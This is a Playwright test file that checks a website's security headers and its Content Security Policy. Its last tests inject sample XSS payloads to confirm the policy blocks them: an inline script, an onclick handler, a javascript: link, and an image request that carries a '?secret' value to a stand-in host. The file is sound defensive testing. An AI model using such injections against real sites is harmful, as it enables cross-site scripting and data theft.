import {readdirSync, readFileSync} from 'node:fs';
import path from 'node:path';
import type {Page} from '@playwright/test';
import {expect, hydrated, test} from './support/test';

// Every other test of this folder runs under the policy too: a violation is a console error, which fails it.

const BUILD = path.resolve(__dirname, '../build');

/**
 * Every fetch directive, and what browsers ask in its place where it is not there, before they ask `default-src`:
 * https://www.w3.org/TR/CSP3/#directive-fallback-list. `prefetch-src` is of older drafts.
 */
const FETCH_DIRECTIVES: Record<string, string[]> = {
  'child-src': [],
  'connect-src': [],
  'font-src': [],
  'frame-src': ['child-src'],
  'img-src': [],
  'manifest-src': [],
  'media-src': [],
  'object-src': [],
  'prefetch-src': [],
  'script-src': [],
  'script-src-attr': ['script-src'],
  'script-src-elem': ['script-src'],
  'style-src': [],
  'style-src-attr': ['style-src'],
  'style-src-elem': ['style-src'],
  'worker-src': ['child-src', 'script-src'],
};
/** The only ones that `default-src` decides: pages ahead, and what frames and workers have directives of their own for. */
const MEANT_TO_BE_DEFAULT = ['child-src', 'prefetch-src'];

const HEADERS = {
  'content-security-policy': "frame-ancestors 'none'",
  'strict-transport-security': 'max-age=31536000',
  'x-content-type-options': 'nosniff',
  'referrer-policy': 'strict-origin-when-cross-origin',
  'cross-origin-opener-policy': 'same-origin',
};

for (const url of [
  '/',
  '/docs/guidelines/roblox',
  '/docs/staff/portal',
  '/login',
  '/nowhere',
  '/img/logo.svg',
]) {
  test(`${url} is served with the security headers`, async ({request}) => {
    const headers = (await request.get(url)).headers();
    expect(headers).toMatchObject(HEADERS);
    expect(headers['permissions-policy']).toContain('camera=()');
  });
}

test('every built page has a policy that names each thing a page may load, and lets no unknown script run @row-widget-no-scripts', () => {
  const pages = readdirSync(BUILD, {recursive: true, encoding: 'utf8'}).filter((file) =>
    file.endsWith('.html'),
  );
  expect(pages.length).toBeGreaterThan(15);
  for (const file of pages) {
    const html = readFileSync(path.join(BUILD, file), 'utf8');
    const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html)?.[1] ?? '';
    const directives = new Map(
      policy.split('; ').map((line): [string, string[]] => {
        const [name = '', ...sources] = line.split(' ');
        return [name, sources];
      }),
    );
    expect(directives.get('default-src'), file).toEqual(["'self'"]);
    for (const name of ['font-src', 'frame-src', 'manifest-src', 'object-src']) {
      expect(directives.get(name), `${name} of ${file}`).toEqual(["'none'"]);
    }
    const left = Object.entries(FETCH_DIRECTIVES)
      .filter(([name, others]) => ![name, ...others].some((asked) => directives.has(asked)))
      .map(([name]) => name);
    expect(left, `what default-src decides in ${file}`).toEqual(MEANT_TO_BE_DEFAULT);
    const scripts = directives.get('script-src') ?? [];
    expect(scripts, file).toContain("'self'");
    expect(
      scripts.filter((source) => !/^('self'|blob:|'unsafe-hashes'|'sha256-[\w+/=]+')$/.test(source)),
      file,
    ).toEqual([]);
    expect(html.indexOf('Content-Security-Policy'), file).toBeLessThan(html.indexOf('<script'));
  }
});

test.describe('what gets into a page does not run:', () => {
  const pwned = (page: Page) => page.evaluate(() => 'pwned' in window);

  test.beforeEach(async ({page, problems}) => {
    problems.expect(/Content Security Policy|elsewhere\.test/);
    await page.goto('/docs/shop');
    await hydrated(page);
  });

  test('an inline script', async ({page}) => {
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.pwned = true';
      document.body.append(script);
    });
    expect(await pwned(page)).toBe(false);
  });

  test('an event handler', async ({page}) => {
    await page.evaluate(() =>
      document.body.insertAdjacentHTML('beforeend', '<b id="b" onclick="pwned = true">b</b>'),
    );
    await page.locator('#b').dispatchEvent('click');
    expect(await pwned(page)).toBe(false);
  });

  test('a javascript: link', async ({page}) => {
    await page.evaluate(() => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<a id="a" href="javascript:void(window.pwned = true)">a</a>',
      );
      document.getElementById('a')!.click();
    });
    await expect(page).toHaveURL('/docs/shop');
    expect(await pwned(page)).toBe(false);
  });

  test('a picture that would carry data to another host', async ({page}) => {
    let asked = false;
    await page.route('https://elsewhere.test/**', (route) => {
      asked = true;
      return route.abort();
    });
    const failed = page.evaluate(
      () =>
        new Promise((resolve) => {
          const picture = new Image();
          picture.onerror = () => resolve('refused');
          picture.src = 'https://elsewhere.test/?secret';
        }),
    );
    expect(await failed).toBe('refused');
    expect(asked).toBe(false);
  });
});
